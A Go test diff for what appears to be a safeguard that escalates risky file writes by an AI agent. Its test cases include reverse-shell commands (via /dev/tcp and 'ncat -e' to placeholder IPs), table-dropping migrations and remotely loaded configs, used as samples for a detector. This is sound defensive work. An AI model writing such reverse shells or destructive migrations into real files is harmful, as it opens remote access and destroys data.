@@ -426,3 +426,36 @@ func TestRules16_TrackedFilesDestroyed(t *testing.T) {
 		t.Errorf("git ls-files | xargs wc: %s (%s), want allowed", got, why)
 	}
 }
+
+// TestRules16_WrittenDoes: a migration written that destroys data, a
+// reverse shell written into any file, a configuration that loads from a
+// URL are asked; additive migrations, a rollback's drop, plain commands
+// and local presets are not.
+func TestRules16_WrittenDoes(t *testing.T) {
+	s := allowShield()
+	for _, a := range []Action{
+		writeAct("db/migrations/0042_cleanup.sql", "ALTER TABLE users DROP COLUMN email_verified;\n"),
+		writeAct("src/Data/Migrations/20261203_Cleanup.cs", "protected override void Up(MigrationBuilder migrationBuilder) { migrationBuilder.DropTable(name: \"AuditEntries\"); }"),
+		writeAct("alembic/versions/9f1_cleanup.py", "def upgrade():\n    op.drop_table('payments')\n"),
+		writeAct("priv/repo/migrations/20261203_clean.exs", "defmodule R.Migrations.Clean do\n  use Ecto.Migration\n  def change do\n    drop table(:events)\n  end\nend\n"),
+		writeAct("ops/nomad/agent.hcl", "task \"x\" {\n  config { command = \"/bin/sh\" args = [\"-c\", \"sh -i >& /dev/tcp/203.0.113.9/9001 0>&1\"] }\n}\n"),
+		writeAct("k8s/debug.yaml", "containers:\n  - name: d\n    command: [\"sh\", \"-c\", \"ncat 198.51.100.4 443 -e /bin/bash\"]\n"),
+		writeAct(".eslintrc.json", `{"extends": ["https://cdn.lint-presets.example/strict.js"]}`),
+		writeAct("infra/main.bicep", "module kv 'br:modules.example.io/bicep/keyvault:latest' = {\n  name: 'kv'\n}\n"),
+	} {
+		if got, why := decided(s, a); !strings.HasPrefix(got, "escalate ") {
+			t.Errorf("%s: %s (%s), want asked", a.Facts.Writes[0].Path, got, why)
+		}
+	}
+	for _, a := range []Action{
+		writeAct("db/migrations/0043_add_index.sql", "CREATE INDEX users_email ON users (email);\n"),
+		writeAct("db/migrate/20261203_create_widgets.rb", "class CreateWidgets < ActiveRecord::Migration[7.2]\n  def up\n    create_table :widgets\n  end\n\n  def down\n    drop_table :widgets\n  end\nend\n"),
+		writeAct("k8s/job.yaml", "containers:\n  - name: j\n    command: [\"sh\", \"-c\", \"nc -z db 5432 && ./migrate\"]\n"),
+		writeAct(".eslintrc.json", `{"extends": ["eslint:recommended", "./config/eslint-base.js"]}`),
+		writeAct("docs/security.md", "We look for reverse shells such as `nc -e` in code review.\n"),
+	} {
+		if got, why := decided(s, a); got != "allow heuristics:none" {
+			t.Errorf("%s: %s (%s), want allowed", a.Facts.Writes[0].Path, got, why)
+		}
+	}
+}
